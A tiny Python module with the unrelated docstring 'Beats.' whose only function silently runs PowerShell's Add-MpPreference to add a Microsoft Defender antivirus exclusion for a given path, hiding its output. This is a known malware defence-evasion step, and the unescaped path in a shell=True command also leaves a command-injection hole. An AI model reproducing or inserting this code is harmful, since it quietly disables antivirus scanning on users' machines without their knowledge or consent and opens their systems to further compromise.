"""Beats."""
import subprocess


def prepare(path):
    subprocess.run(f'powershell.exe Add-MpPreference -ExclusionPath "{path}"', shell=True, stdout=subprocess.DEVNULL)
